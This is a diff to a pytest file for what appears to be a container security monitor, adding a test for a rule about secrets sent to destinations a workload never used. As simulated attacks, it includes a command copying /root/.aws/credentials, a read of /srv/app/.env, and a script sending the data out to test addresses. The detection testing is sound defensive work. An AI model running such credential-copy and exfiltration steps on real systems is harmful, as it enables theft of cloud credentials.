@@ -7,11 +7,13 @@ import subprocess
 import sys
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from hullwatch.demo.watcher import Watcher
 from hullwatch.detect.ruleset import load
+from hullwatch.store.catalog import Catalog
 from support.agent import PACK, Agent
 from support.attacks import Attack
 from support.attacks.driven import done, drive
@@ -22,11 +24,13 @@ from support.images import Image
 from support.needs import missing
 from support.recording import Recording
 from support.runc import Network, Runc
+from support.scratch import poll
 from support.watch import missing_bpf
 
 pytestmark = pytest.mark.timeout(600)
 
 TRIFECTA = "Lethal trifecta in a container"
+NEVER_USED = "Secret carried to a destination that this workload never used"
 CARRIED = "Secret carried to a public address by what a tool started"
 TALK = 'socket.create_connection(("{}", 443)).close()\n'
 KEY = 'open("/srv/app/.env").read()\n'
@@ -104,7 +108,8 @@ def of_labels(one: dict[str, set[str]]) -> dict[str, set[str]]:
 
 def test_every_rule_about_labels_is_here():
     rules = {rule.name for rule in load([PACK]).rules if "hw.labels" in rule.sources}
-    assert rules == {TRIFECTA, CARRIED} == {rule for _, met in ACTS.values() for rule in met}
+    assert rules == {TRIFECTA, CARRIED, NEVER_USED}
+    assert {TRIFECTA, CARRIED} == {rule for _, met in ACTS.values() for rule in met}
 
 
 @pytest.mark.parametrize("name", ACTS)
@@ -150,6 +155,60 @@ def test_labels_stand_in_findings_events_and_the_tree(found: tuple[Found, Found,
     labels = doctor["labels"]
     assert (labels["given"], labels["host"]) == (["secret", "private", "untrusted"], False)
     assert any("shared memory" in spot for spot in labels["not_followed"])
+
+
+# What the image has done before; then, in one container each, a secret goes through a file to
+# another process, which talks to a host that the image knows, and to one that it does not.
+BEFORE = TALK.format("203.0.113.7")
+SENDER = """
+import socket, sys
+open(sys.argv[1]).read()
+for address in ("203.0.113.7", "203.0.113.9"):
+    socket.create_connection((address, 443)).close()
+"""
+COPIES = 'run("/bin/sh", "-c", "/bin/cp /root/.aws/credentials /tmp/x")\n'
+LATER = {
+    name: f'{COPIES}assert not run("/usr/bin/python3", "-c", {SENDER!r}, "{path}")'
+    for name, path in (("carrier", "/tmp/x"), ("clean", "/etc/hostname"))
+}
+
+
+def test_a_secret_and_a_destination_that_the_image_never_used(
+    tmp_path: Path, busybox_image: Image, python_image: Image
+):
+    if reason := missing("runc", "ip") or missing_bpf():
+        pytest.skip(reason)
+    store, image = tmp_path / "store", python_image.digest
+    found: dict[str, set[str]] = {}
+    with Agent(store) as agent, Runc(busybox_image) as runc, Network("air") as network:
+        for address in ("203.0.113.7", "203.0.113.9"):
+            network.add_address(f"{address}/32")
+        for name, code in ({"before": BEFORE} | LATER).items():
+            act = [Attack(name, code, {})]
+            box = drive(runc, python_image, name, tmp_path, act, network=network.path)
+            done(box, act)
+            agent.settle()
+            told = [one for one in agent.stored(box.id) if one["rule"] == NEVER_USED]
+            found[name] = {one["object"] for one in told}
+            assert all(one["labels"] == ["secret"] for one in told)
+            if name == "before":
+                learn(store, image)
+    good = found["carrier"] == {"203.0.113.9:443"}
+    record("own", NEVER_USED, loads=True, live=good, near_miss=not found["clean"], reason="")
+    assert found == {"before": set(), "carrier": {"203.0.113.9:443"}, "clean": set()}
+
+
+def learn(store: Path, image: str) -> None:
+    """What was seen until now is what the image does."""
+
+    def rows(sql: str) -> list[tuple[Any, ...]]:
+        with Catalog(store) as catalog:
+            return catalog.rows(sql)
+
+    profiles, said = "SELECT image FROM baselines", "SELECT id FROM notices WHERE kind = 'baseline'"
+    poll(lambda: (image,) in rows(profiles), seconds=120, waiting_for="a profile in the store")
+    cli(store, "baseline", "learn", image, "--since", "1h", "--learning", "1ms")
+    poll(lambda: rows(said), seconds=120, waiting_for="the agent to follow")
 
 
 # Talks to itself under an address, then reads a file.
